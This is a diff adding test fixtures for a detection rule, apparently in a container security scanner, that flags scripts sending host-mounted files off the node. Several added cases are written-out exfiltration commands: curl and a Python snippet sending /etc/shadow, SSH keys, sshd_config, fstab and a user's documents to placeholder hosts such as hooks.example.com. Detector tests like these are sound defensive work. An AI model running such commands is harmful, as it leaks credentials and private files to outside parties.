@@ -36,6 +36,18 @@ indicatorTable(commandHostFileSend, {
       '/etc/kubernetes',
       'curl -F "note=</host/admin.conf" https://hooks.example.com/x',
     ),
+    'a value that is filled from a file by a name of its own': scriptOn(
+      '/etc',
+      'curl --data-urlencode "a-@/host/ssh/sshd_config" https://hooks.example.com/x; curl --data-urlencode n@/host/fstab https://hooks.example.com/y',
+    ),
+    'files whose names come from a list of sizes': scriptOn(
+      '/etc/ssh',
+      'du -a /host | cut -f2 | xargs cat | curl --data-binary @- https://hooks.example.com/x',
+    ),
+    'files whose names come from a list of checksums, one by one': scriptOn(
+      '/etc/ssh',
+      "sha256sum /host/* | cut -d' ' -f3 | xargs -I{} curl -T {} https://hooks.example.com/x",
+    ),
     'a file beside its name': scriptOn(
       '/etc/ssh',
       'for f in /host/*_key; do curl -d "$f: $(cat $f)" https://hooks.example.com/x; done',
@@ -44,8 +56,45 @@ indicatorTable(commandHostFileSend, {
       '/proc',
       'cat /host/uptime /host/1/cmdline | curl --data-binary @- https://hooks.example.com/x',
     ),
+    'a file beside its checksum, in code': cronJob(
+      mounting('/etc', {}, [
+        'python3',
+        '-c',
+        `import hashlib, requests
+held = open('/host/shadow', 'rb').read()
+requests.post('https://hooks.example.com/x', data={'sum': hashlib.sha256(held).hexdigest(), 'of': held})`,
+      ]),
+    ),
+    'what a person keeps, with their whole home in reach': scriptOn(
+      '/home/alice',
+      'tar cz -C /host/documents . | curl -T - https://files.example.com/a',
+    ),
+    'keys of a person': scriptOn('/home/alice/.ssh', 'curl -F f=@/host/id_ed25519 https://files.example.com/a'),
   },
   staysSilent: {
+    'a checksum, in code': cronJob(
+      mounting('/etc', {}, [
+        'python3',
+        '-c',
+        `import hashlib, requests
+requests.post('https://hooks.example.com/x', data=hashlib.sha256(open('/host/ssh/sshd_config', 'rb').read()).hexdigest())`,
+      ]),
+    ),
+    'when certificates end, in code': cronJob(
+      mounting('/etc/kubernetes/pki', {}, [
+        'python3',
+        '-c',
+        `import glob, requests
+from cryptography import x509
+for path in glob.glob('/host/*.crt'):
+    held = x509.load_pem_x509_certificate(open(path, 'rb').read())
+    requests.post('https://hooks.example.com/x', data=path + str(held.not_valid_after))`,
+      ]),
+    ),
+    'a backup of the data of an application in a home': scriptOn(
+      '/home/alice/photos',
+      'tar cz -C /host . | curl -T - https://dav.example.com/photos.tgz',
+    ),
     'how full the disk of the node is': scriptOn(
       '/',
       'used=$(df --output=pcent /host | tail -n 1); curl -d "the disk is at $used" https://hooks.example.com/x',
